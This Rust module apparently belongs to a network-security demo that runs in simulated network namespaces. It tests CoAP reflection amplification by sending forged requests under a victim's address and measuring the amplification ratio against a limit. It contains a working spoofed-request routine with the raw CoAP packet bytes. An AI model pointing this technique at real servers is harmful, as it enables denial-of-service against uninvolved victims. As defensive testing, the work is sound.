//! CoAP as an amplifier (RFC 7252 §11.3): requests under a bystander's address, large responses to him.

use std::net::{SocketAddr, UdpSocket};
use std::thread;
use std::time::Duration;

use super::Observation;
use crate::demo::scene::{Scene, port};
use crate::netns::{Error, Family, Host, Result, address};

/// The most a victim may get for each byte the attacker spends.
pub const RATIO_LIMIT: f64 = 3.0;

const REQUESTS: u16 = 40;
const INTERVAL: Duration = Duration::from_millis(5);
/// When nothing has come for so long, nothing will.
const QUIET: Duration = Duration::from_millis(250);
/// Where the victim gets what he never asked for.
const VICTIM_PORT: u16 = 40_000;

/// Confirmable GET /example_data, up to the message ID: the server answers with a block of 1024 bytes.
const REQUEST_HEAD: [u8; 2] = [0x44, 0x01];
const REQUEST_TAIL: &[u8] = b"\xbcexample_data";

/// Reflects, and weighs what arrives at the victim.
pub(super) fn reflect(scene: &Scene, family: Family) -> Result<Observation> {
    let at = SocketAddr::new(address(Host::Victim, 0, family), VICTIM_PORT);
    let server = SocketAddr::new(scene.coap.address(family), port::COAP);
    let open = |host| scene.host(host).udp(at).map_err(Error::socket(at));
    // The same address and port twice: once where it belongs, once under the attacker's hand.
    let (victim, attacker) = (open(Host::Victim)?, open(Host::Attacker)?);
    let spent = send_requests(&attacker, server).map_err(Error::socket(server))?;
    let received = weigh(&victim).map_err(Error::socket(at))?;
    let ratio = received as f64 / spent as f64;
    let seen = format!("victim gets {ratio:.1} bytes for 1");
    Ok(match ratio > RATIO_LIMIT {
        true => Observation::reached(seen),
        false => Observation::stopped(seen),
    })
}

/// Sends the forged requests; returns their bytes.
fn send_requests(attacker: &UdpSocket, server: SocketAddr) -> std::io::Result<usize> {
    let mut spent = 0;
    for number in 0..REQUESTS {
        let number = number.to_be_bytes();
        // Message ID and, twice over, token.
        let request = [&REQUEST_HEAD, &number[..], &number, &number, REQUEST_TAIL].concat();
        spent += attacker.send_to(&request, server)?;
        thread::sleep(INTERVAL);
    }
    Ok(spent)
}

/// The bytes of all datagrams that arrive until it is quiet.
fn weigh(victim: &UdpSocket) -> std::io::Result<usize> {
    use std::io::ErrorKind::{Interrupted, WouldBlock};

    victim.set_read_timeout(Some(QUIET))?;
    let (mut buffer, mut sum) = ([0; 2048], 0);
    loop {
        match victim.recv(&mut buffer) {
            Ok(len) => sum += len,
            Err(error) if error.kind() == WouldBlock => return Ok(sum),
            Err(error) if error.kind() == Interrupted => {}
            Err(error) => return Err(error),
        }
    }
}
